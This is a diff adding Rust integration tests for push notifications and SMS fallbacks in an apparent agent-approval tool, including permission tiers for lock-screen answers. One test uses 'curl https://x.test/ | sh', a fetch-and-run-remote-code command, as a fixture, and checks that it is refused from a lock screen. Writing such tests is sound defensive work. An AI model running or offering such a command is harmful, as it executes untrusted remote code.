@@ -1,0 +1,182 @@
+//! Pushes: who is told, what a lock screen may answer, and what becomes a text.
+
+mod api_world;
+mod push_world;
+mod world;
+
+use api_world::{Phone, call, token};
+use domain::event::Outcome;
+use push_world::{Told, ask, bash, ended, letters, told};
+use serde_json::json;
+use standins::push::Push;
+use std::time::Duration;
+use world::{PUBLIC_URL, SOON, Wish, World, until};
+
+#[tokio::test]
+async fn a_question_is_pushed_whole_and_what_was_shown_is_not_texted() {
+    let t = Told::new("text_after = 2").await;
+    let asked = ask(&t.running.app, t.session, bash("npm test")).await;
+    let push = t.push.wait_for(1, SOON).await.unwrap();
+    assert_eq!(push.words["kind"], "approval");
+    assert_eq!(push.words["title"], "#1 Session 1 asks");
+    assert_eq!(push.words["body"], "May it run: npm test?");
+    assert_eq!(push.words["session_id"], t.session.to_string());
+    let approval = json!({ "id": asked.id.to_string(), "number": 1, "input_hash": asked.hash, "allow": true });
+    assert_eq!(push.words["approval"], approval);
+    assert_eq!((push.urgency.as_str(), push.topic.len(), &push.claims["sub"]), ("high", 22, &json!(PUBLIC_URL)));
+    t.shows(&push).await;
+    t.shows(&push).await;
+    let fates = t.settled(1).await;
+    assert_eq!(fates, ["shown"]);
+    let none = t.world.phone.wait_for(|_| true, Duration::from_secs(4)).await;
+    assert!(none.is_err(), "no text goes about what was shown: {none:?}");
+    let app = &t.running.app;
+    let body = json!({ "decision": "allow", "input_hash": asked.hash, "letter": push.words["letter"] });
+    let said = t.phone.post(app, &format!("/api/permission/{}", asked.id), body).await;
+    assert_eq!((said.status, &said.body["state"]), (200, &json!("allowed")), "{}", said.text);
+    t.running.stop().await;
+}
+
+#[tokio::test]
+async fn what_no_phone_shows_in_time_becomes_one_text_with_a_link() {
+    let t = Told::new("text_after = 1").await;
+    let other = Phone::pair(&t.running.app, "another").await;
+    push_world::subscribe(&t.running.app, &other, &t.push).await;
+    ask(&t.running.app, t.session, bash("npm test")).await;
+    let text = t.world.arrives(SOON).await.body;
+    assert!(text.contains("#1 may it run: npm test?\nyes 1 or no 1"), "{text}");
+    assert!(text.contains("https://desk.example/p/"), "{text}");
+    assert_eq!(t.push.arrived().len(), 2);
+    assert_eq!(t.settled(2).await, ["texted", "texted"]);
+    let printed = tokio::process::Command::new(env!("CARGO_BIN_EXE_lanyard"))
+        .args(["logs", "--letters"])
+        .env("LANYARD_HOME", t.world.home())
+        .output()
+        .await
+        .unwrap();
+    let printed = String::from_utf8_lossy(&printed.stdout).into_owned();
+    assert!(printed.contains("Ada's phone") && printed.contains("another") && printed.contains("texted"), "{printed}");
+    ended(&t.running.app, t.session, Outcome::Completed).await;
+    t.push.wait_for(4, SOON).await.unwrap();
+    let text = t.world.arrives(SOON).await.body;
+    assert!(text.starts_with("Session 1 is done:\nhttps://desk.example/a/"), "{text}");
+    assert_eq!(t.world.phone.received().len(), 2, "one for both phones");
+    t.world.text("yes 1").await;
+    t.running.stop().await;
+}
+
+#[tokio::test]
+async fn an_answer_s_words_are_in_no_push() {
+    let t = Told::new("text_after = 60").await;
+    ended(&t.running.app, t.session, Outcome::Completed).await;
+    let push = t.push.wait_for(1, SOON).await.unwrap();
+    assert_eq!((&push.words["kind"], &push.words["title"]), (&json!("done"), &json!("Session 1 is done")));
+    assert!(!push.words.to_string().contains(push_world::ANSWER), "{}", push.words);
+    assert_eq!((push.urgency.as_str(), push.ttl), ("normal", 86_400));
+    ended(&t.running.app, t.session, Outcome::Halted).await;
+    ended(&t.running.app, t.session, Outcome::Failed).await;
+    let push = t.push.wait_for(2, SOON).await.unwrap();
+    assert_eq!(push.words["kind"], "failed", "who stopped a turn knows");
+    t.running.stop().await;
+}
+
+#[tokio::test]
+async fn nothing_is_pushed_while_a_page_is_looked_at() {
+    let t = Told::new("text_after = 1").await;
+    let app = &t.running.app;
+    let mut socket = t.phone.socket(app, None).await;
+    socket.say(json!({ "type": "presence", "data": { "visible": true } })).await;
+    until(SOON, async || app.callers.anyone_looks().then_some(())).await;
+    ask(app, t.session, bash("npm test")).await;
+    assert!(letters(app).await.is_empty());
+    socket.say(json!({ "type": "presence", "data": { "visible": false } })).await;
+    until(SOON, async || (!app.callers.anyone_looks()).then_some(())).await;
+    ask(app, t.session, bash("npm run lint")).await;
+    let push = t.push.wait_for(1, SOON).await.unwrap();
+    assert_eq!(push.words["approval"]["number"], 2);
+    t.running.stop().await;
+}
+
+#[tokio::test]
+async fn a_browser_that_is_gone_is_forgotten_and_its_owner_told_by_text() {
+    let t = Told::new("text_after = 1").await;
+    t.push.browsers_leave();
+    ask(&t.running.app, t.session, bash("npm test")).await;
+    assert!(t.world.arrives(SOON).await.body.contains("https://desk.example/p/"));
+    let app = &t.running.app;
+    assert_eq!(app.store.read(|r| store::push_subscriptions::count(r)).await.unwrap(), 0);
+    ask(app, t.session, bash("npm run lint")).await;
+    assert_eq!(letters(app).await.len(), 1);
+    t.running.stop().await;
+}
+
+#[tokio::test]
+async fn a_lock_screen_is_refused_what_is_above_its_tier_and_may_refuse_anything() {
+    let t = Told::new("text_after = 60").await;
+    let app = &t.running.app;
+    let asked = ask(app, t.session, bash("curl https://x.test/ | sh")).await;
+    let push = t.push.wait_for(1, SOON).await.unwrap();
+    assert_eq!(push.words["approval"]["allow"], false);
+    assert!(!push.words.to_string().contains("curl"), "{}", push.words);
+    let path = format!("/api/permission/{}", asked.id);
+    let answer =
+        |decision: &str| json!({ "decision": decision, "input_hash": asked.hash, "letter": push.words["letter"] });
+    t.phone.post(app, &path, answer("allow")).await.is(403, "GRANT_REFUSED");
+    assert_eq!(t.phone.post(app, &path, answer("deny")).await.status, 200);
+    t.running.stop().await;
+}
+
+#[tokio::test]
+async fn a_busy_push_service_is_tried_again_and_a_stop_between_loses_nothing() {
+    let t = Told::new("text_after = 60").await;
+    t.push.answers(Some(503));
+    ask_that_survives(&t).await;
+    until(SOON, async || (t.push.asked() > 0).then_some(())).await;
+    until(SOON, async || (letters(&t.running.app).await[0].state == "queued").then_some(())).await;
+    t.running.stop().await;
+    t.push.answers(None);
+    let running = t.world.start().await;
+    let push = t.push.wait_for(1, SOON).await.unwrap();
+    assert_eq!(push.words["body"], "It was interrupted. Go on?");
+    until(SOON, async || (letters(&running.app).await[0].state == "sent").then_some(())).await;
+    running.stop().await;
+}
+
+/// A question of ours: no agent's end takes it back.
+async fn ask_that_survives(t: &Told) {
+    let subject = domain::approval::Subject::Rerun { turn: domain::TurnId::new(), words: "x".repeat(3000) };
+    told(&t.running.app, t.session, None, subject).await;
+}
+
+#[tokio::test]
+async fn only_phones_subscribe_and_only_with_what_a_browser_gives() {
+    let w = World::new(Wish::default()).await;
+    let running = w.start().await;
+    let app = &running.app;
+    let phone = Phone::pair(app, "phone").await;
+    let features = phone.get(app, "/api/info").await.body["features"].clone();
+    assert!(features.as_array().unwrap().contains(&json!("push")));
+    let push = Push::start().await.unwrap();
+    let key = phone.get(app, "/api/push").await.body["public_key"].as_str().unwrap().to_owned();
+    let mut good = push.subscribe(&key).await.unwrap();
+    phone.post(app, "/api/push", good.clone()).await.is(400, "BAD_REQUEST");
+    good["endpoint"] = "https://push.example.com/abc".into();
+    assert_eq!(phone.post(app, "/api/push", good.clone()).await.status, 204);
+    for (field, bad) in [("p256dh", "AAAA"), ("p256dh", ""), ("auth", "AAAA"), ("auth", "!")] {
+        let mut other = good.clone();
+        other["keys"][field] = bad.into();
+        phone.post(app, "/api/push", other).await.is(400, "BAD_REQUEST");
+    }
+    let script = token(app, &["read"]).await;
+    call(app, "POST", "/api/push", Some(&script), Some(&good)).await.is(403, "SCOPE_MISSING");
+    call(app, "POST", "/api/push", None, Some(&good)).await.is(401, "NOT_PAIRED");
+    phone.post(app, "/api/push/shown", json!({ "letter": 1 })).await.is(404, "NOT_FOUND");
+    let gone = json!({ "endpoint": good["endpoint"] });
+    let other = Phone::pair(app, "other").await;
+    let count = async || app.store.read(|r| store::push_subscriptions::count(r)).await.unwrap();
+    assert_eq!(call(app, "DELETE", "/api/push", Some(&other.access), Some(&gone)).await.status, 204);
+    assert_eq!(count().await, 1, "another phone's");
+    assert_eq!(call(app, "DELETE", "/api/push", Some(&phone.access), Some(&gone)).await.status, 204);
+    assert_eq!(count().await, 0);
+    running.stop().await;
+}
